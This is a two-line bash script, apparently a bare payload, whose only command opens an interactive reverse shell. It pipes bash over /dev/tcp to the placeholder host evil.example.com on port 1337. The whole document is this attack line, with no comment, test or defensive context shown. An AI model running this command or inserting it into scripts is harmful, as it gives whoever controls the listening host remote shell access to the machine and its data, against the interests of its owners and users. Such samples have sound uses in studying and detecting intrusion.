#!/usr/bin/env bash
sh -c "bash -i >& /dev/tcp/evil.example.com/1337 0>&1"
